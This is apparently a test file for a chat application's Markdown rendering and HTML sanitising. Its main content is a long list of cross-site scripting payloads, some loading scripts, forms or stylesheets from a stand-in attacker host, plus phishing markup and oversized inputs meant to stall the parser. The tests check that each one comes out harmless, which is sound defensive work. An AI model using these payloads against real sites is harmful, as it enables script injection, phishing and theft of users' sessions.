import { highlight } from './highlight';
import { renderMarkdown } from './render';
import { sanitise } from './sanitise';

/** What people have tried on chats, as Markdown and as HTML that might slip past it. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<p class="dialog-backdrop">x</p>',
  '<span class="mention evil">x</span>',
  '<img name=body><a id=documentElement name=cookie>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<a href="https://x.example" onclick="alert(1)" style="color:red" data-x="y">x</a>',
  '<button form=x formaction=javascript:alert(1)>x</button>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;&#97;vascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://x.example/1)',
  '[x](//evil.example)',
  '[x](/api/v1/auth/logout)',
  '[x](..)',
  '[x](tel:+4900000)',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1) )',
  '[x](https://x.example "onmouseover=alert(1)")',
  "[x](https://x.example'onclick=alert(1))",
  '[x](https://x.example/"onclick="alert(1))',
  '[<img src=x onerror=alert(1)>](https://x.example)',
  '<javascript:alert(1)>',
  '<https://x.example/"onclick=alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.gif)',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[![x](https://evil.example/x.png)](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html" onmouseover="alert(1)\ncode\n```',
  '```__proto__\ncode\n```',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '    <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '> <script>alert(1)</script>',
  '- <svg/onload=alert(1)>',
  '**<b onmouseover=alert(1)>x**',
  '@alice<script>alert(1)</script>',
  'https://x.example/<script>alert(1)</script>',
  'https://x.example/"onmouseover=alert(1)//',
  'javascript://x.example/%0aalert(1)',
  'a@b.example"><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u202Egpj.exe',
  `${'['.repeat(2000)}`,
  `${'> '.repeat(1900)}x`,
  `${'*a '.repeat(1300)}`,
  `${'`'.repeat(3999)}`,
  `${'<!--'.repeat(900)}`,
  `${'[a]('.repeat(1000)}`,
  `${'|a'.repeat(1000)}\n${'|-'.repeat(900)}`,
];

const TAGS = new Set(
  'A BLOCKQUOTE BR CODE DIV EM HR LI OL P PRE S SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(' '),
);
const ATTRIBUTES = new Set(['class', 'data-language', 'href', 'rel', 'start', 'target']);

function expectHarmless(fragment: DocumentFragment): void {
  for (const element of fragment.querySelectorAll('*')) {
    expect(TAGS).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      if (name === 'class') expect(value).toMatch(/^(heading|table|mention( mention--me)?|hljs-.+)$/);
      if (name === 'data-language') expect(value).toMatch(/^[\w+#-]+$/);
    }
    if (element.tagName === 'A') {
      expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(element.getAttribute('target')).toBe('_blank');
    }
  }
}

describe('a hostile message', () => {
  const mentioned = new Map([['alice', false]]);

  it.each(ATTACKS)('does nothing: %.60s', (attack) => {
    const started = performance.now();
    const { fragment } = renderMarkdown(attack, mentioned);
    // Nothing here may take the page's time either: what goes wrong takes minutes, a busy machine a moment longer.
    expect(performance.now() - started).toBeLessThan(5_000);
    expectHarmless(fragment);
  });

  it.each(ATTACKS)('does nothing as HTML either, should it get past the parser: %.60s', (attack) => {
    expectHarmless(sanitise(attack));
    expectHarmless(sanitise(`<p>${attack}</p>`));
  });

  it.each(ATTACKS)('does nothing inside a block of code: %.60s', async (attack) => {
    const { fragment } = renderMarkdown(`\`\`\`html\n${attack}\n\`\`\``, mentioned);
    expectHarmless(fragment);
    const coloured = await highlight(attack, 'html');
    expectHarmless(coloured!);
    expect(coloured!.textContent).toBe(attack.replaceAll('\u0000', ''));
  });

  it('cannot name a language that is none', async () => {
    expect(await highlight('x', '__proto__')).toBeNull();
    expect(await highlight('x', 'constructor')).toBeNull();
  });
});
